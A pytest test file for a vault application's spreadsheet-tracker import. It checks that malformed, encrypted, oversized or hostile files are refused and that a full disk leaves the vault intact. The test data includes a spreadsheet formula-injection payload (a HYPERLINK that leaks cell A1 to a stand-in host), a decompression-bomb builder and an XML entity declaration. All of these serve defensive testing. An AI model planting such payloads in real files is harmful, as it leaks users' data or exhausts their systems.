"""Trackers handed in that are no trackers, or carry things meant to do harm; disks that are full meanwhile."""

from __future__ import annotations

import csv
import io
import os
import shutil
import subprocess
import sys
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import msoffcrypto.format.ooxml
import pytest
import xlsxwriter
from command_line import PASSPHRASE, PROJECT, SAMPLE_TRACKER, CommandOutput, command, files_of, secret_file

from desktop.application.application import CountersignApplication
from domain.errors import Unavailable
from domain.state import ItemFilter

HEADERS = ("No.", "Finding", "Raised on", "Action owner", "Due date", "Status")
DANGEROUS = '=HYPERLINK("http://example.invalid/?leak="&A1,"click")'
ROOM_ON_A_SMALL_DISK = 1024 * 1024


@pytest.fixture
def secret(tmp_path: Path) -> Path:
    return secret_file(tmp_path)


@pytest.fixture
def imports(site_vault: Path, secret: Path) -> Callable[..., CommandOutput]:
    def typed(verb: str, file: Path, *more: object) -> CommandOutput:
        person = ("--as", "Quinn QA", "--passphrase-file", secret, "--json")
        return command("import", verb, site_vault, file, "--process", "capa", *more, *person)

    return typed


def rows(count: int = 12) -> list[list[Any]]:
    return [[f"N-{n:03d}", f"Guard {n} loose", "2026-03-04", "Otto", "2026-05-06", "open"] for n in range(count)]


def workbook(path: Path, body: list[list[Any]]) -> Path:
    made = xlsxwriter.Workbook(str(path), {"strings_to_formulas": False, "strings_to_urls": False})
    sheet = made.add_worksheet("Register")
    for number, row in enumerate([list(HEADERS), *body]):
        sheet.write_row(number, 0, row)
    made.close()
    return path


def text_table(path: Path, body: list[list[Any]]) -> Path:
    with path.open("w", newline="", encoding="utf-8") as out:
        csv.writer(out).writerows([HEADERS, *body])
    return path


def not_a_workbook(path: Path) -> None:
    path.write_bytes(b"MZ" + bytes(range(256)) * 20)


def empty_file(path: Path) -> None:
    path.touch()


def empty_sheet(path: Path) -> None:
    made = xlsxwriter.Workbook(str(path))
    made.add_worksheet("Nothing")
    made.close()


def protected(path: Path) -> None:
    plain = workbook(path.with_name("plain.xlsx"), rows())
    with plain.open("rb") as source, path.open("wb") as out:
        msoffcrypto.format.ooxml.OOXMLFile(source).encrypt("the sheet's own password", out)


def bomb(path: Path) -> None:
    plain = workbook(path.with_name("plain.xlsx"), rows())
    with zipfile.ZipFile(plain) as old, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            new.writestr(name, old.read(name))
        new.writestr("xl/media/picture.xml", b"<a/>" * (8 * 1024**2))


def entities(path: Path) -> None:
    plain = workbook(path.with_name("plain.xlsx"), rows())
    declared = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">]>'
    with zipfile.ZipFile(plain) as old, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            data = old.read(name)
            new.writestr(name, declared + data.split(b"?>", 1)[1] if name == "xl/sharedStrings.xml" else data)


@pytest.mark.parametrize(
    ("make", "words"),
    [
        (not_a_workbook, "not a readable workbook"),
        (empty_file, "empty"),
        (empty_sheet, "No table"),
        (protected, "protected by a password"),
        (bomb, "meant to do harm"),
        (entities, "declares entities"),
    ],
)
def test_a_file_that_is_no_tracker_is_refused_in_words(
    imports: Callable[..., CommandOutput], site_vault: Path, tmp_path: Path, make: Callable[[Path], None], words: str
) -> None:
    file = tmp_path / "handed in.xlsx"
    make(file)
    before = files_of(site_vault)
    for verb in ("check", "run"):
        output = imports(verb, file)
        assert output.code == 8, output
        error = output.error()
        assert words in error["what"]
        assert error["where"]
        assert error["remedy"]
        assert files_of(site_vault) == before


def test_a_protected_workbook_opens_with_its_passphrase(imports: Callable[..., CommandOutput], tmp_path: Path) -> None:
    file = tmp_path / "protected.xlsx"
    protected(file)
    own = secret_file(tmp_path, "the sheet's own password", "workbook.txt")
    wrong = secret_file(tmp_path, "another password", "wrong.txt")
    assert imports("check", file, "--file-passphrase-file", own).json()["new"] == len(rows())
    output = imports("check", file, "--file-passphrase-file", wrong)
    assert output.code in (4, 8)
    assert "another password" not in output.err + output.out


@pytest.mark.parametrize("suffix", ["xlsx", "csv"])
def test_text_that_looks_like_a_formula_stays_text(
    imports: Callable[..., CommandOutput], site_vault: Path, secret: Path, tmp_path: Path, suffix: str
) -> None:
    body = rows()
    body[3][1] = DANGEROUS
    file = (workbook if suffix == "xlsx" else text_table)(tmp_path / f"tracker.{suffix}", body)
    assert imports("run", file).json()["new"] == len(body)
    person = ("--as", "Quinn QA", "--passphrase-file", secret, "--json")
    listed = command("item", "list", site_vault, "--search", "HYPERLINK", *person).items()
    assert [line["title"] for line in listed] == [DANGEROUS]


def test_a_cell_of_40000_characters_refuses_its_row_and_names_the_cell(
    imports: Callable[..., CommandOutput], tmp_path: Path
) -> None:
    body = rows()
    body[4][1] = "long " * 8_000
    output = imports("run", text_table(tmp_path / "tracker.csv", body)).json()
    assert (output["rows"], output["new"]) == (len(body), len(body) - 1)
    refused = output["refused"]
    assert [(each["row"], each["cell"]) for each in refused] == [(6, "B6")]
    assert "40000" in refused[0]["reason"].replace(",", "").replace(" ", "")


@pytest.mark.parametrize(
    ("more", "code"),
    [
        (("--sheet", "No such sheet"), 2),
        (("--header-row", "99999"), 2),
        (("--map", "title=No such column"), 2),
        (("--map", "shape=Finding"), 2),
        (("--map", "nothing"), 2),
    ],
)
def test_a_wrong_pointer_into_the_file_is_wrong_usage(
    imports: Callable[..., CommandOutput], site_vault: Path, more: tuple[str, ...], code: int
) -> None:
    before = files_of(site_vault)
    output = imports("run", SAMPLE_TRACKER, *more)
    assert output.code == code, output
    assert output.error()["what"]
    assert files_of(site_vault) == before


def test_a_process_that_is_not_here_is_wrong_usage(site_vault: Path, secret: Path) -> None:
    person = ("--as", "Quinn QA", "--passphrase-file", secret, "--json")
    output = command("import", "check", site_vault, SAMPLE_TRACKER, "--process", "picnic", *person)
    assert output.code == 2
    assert "capa" in output.error()["remedy"]


@pytest.fixture
def small_disk(tmp_path: Path, site_vault: Path) -> Iterator[Path]:
    """A disk with little room beside a new vault, where this computer lets us make one."""
    place = tmp_path / "disk"
    place.mkdir()
    mount = shutil.which("mount")
    if sys.platform != "linux" or mount is None or os.geteuid() != 0:
        pytest.skip("making a small disk takes root on Linux")
    taken = sum(file.stat().st_size for file in site_vault.rglob("*") if file.is_file())
    made = subprocess.run(
        [mount, "-t", "tmpfs", "-o", f"size={taken + ROOM_ON_A_SMALL_DISK}", "tmpfs", str(place)],
        capture_output=True,
        text=True,
        check=False,
    )
    if made.returncode:
        pytest.skip(f"this computer does not let root mount a small disk: {made.stderr.strip()}")
    yield place
    subprocess.run(["umount", "--lazy", str(place)], check=True, cwd=PROJECT)


def test_a_disk_that_fills_up_while_importing_leaves_the_vault_as_it_was(
    site_vault: Path, secret: Path, tmp_path: Path, small_disk: Path
) -> None:
    vault = Path(shutil.copytree(site_vault, small_disk / "Site.vault"))
    file = text_table(tmp_path / "tracker.csv", rows(3_000))
    person = ("--as", "Quinn QA", "--passphrase-file", secret, "--json")
    slots, size = (vault / "slots.a").read_bytes(), (vault / "store.db").stat().st_size
    log = command("log", "verify", vault, *person).json()
    output = command("import", "run", vault, file, "--process", "capa", *person)
    assert output.code == 8, output
    assert "full" in output.error()["what"]
    # Pages put back are enciphered afresh, so the same content has other bytes.
    assert command("log", "verify", vault, *person).json() == log
    assert command("item", "list", vault, *person).items() == []
    assert ((vault / "slots.a").read_bytes(), (vault / "store.db").stat().st_size) == (slots, size)
    assert not (vault / "store.db-journal").exists()
    smaller = text_table(tmp_path / "smaller.csv", rows(5))
    assert command("import", "run", vault, smaller, "--process", "capa", *person).json()["new"] == 5


def test_a_store_that_may_not_grow_refuses_an_import_whole(site_vault: Path, tmp_path: Path) -> None:
    file = text_table(tmp_path / "tracker.csv", rows(500))
    vault = CountersignApplication().unlock(site_vault, person="Quinn QA", passphrase=PASSPHRASE)
    with vault._store._engine.connect() as connection:
        pages = connection.exec_driver_sql("PRAGMA page_count").scalar_one()
        connection.exec_driver_sql(f"PRAGMA max_page_count = {pages + 20}")
    size = vault.register.log_size()
    plan = vault.plan_import(file, process="capa")
    with pytest.raises(Unavailable, match="full"):
        vault.run_import(plan, file, process="capa")
    assert vault.register.log_size() == size
    assert vault.register.count(ItemFilter()) == 0
    assert vault.verify().intact
    vault.lock()


def test_a_tracker_that_vanished_or_is_a_folder_is_a_file_problem(
    imports: Callable[..., CommandOutput], tmp_path: Path
) -> None:
    for place in (tmp_path / "gone.xlsx", tmp_path):
        output = imports("check", place)
        assert output.code == 8
        assert output.error()["where"]


def test_a_tracker_that_changes_between_plan_and_import_is_not_imported(site_vault: Path, tmp_path: Path) -> None:
    file = text_table(tmp_path / "tracker.csv", rows())
    vault = CountersignApplication().unlock(site_vault, person="Quinn QA", passphrase=PASSPHRASE)
    plan = vault.plan_import(file, process="capa")
    changed = io.StringIO(file.read_text(encoding="utf-8")).getvalue().replace("Guard 1 ", "Guard X ")
    file.write_text(changed, encoding="utf-8")
    with pytest.raises(Unavailable, match="changed"):
        vault.run_import(plan, file, process="capa")
    assert vault.register.count(ItemFilter()) == 0
    assert vault.verify().intact
    vault.lock()
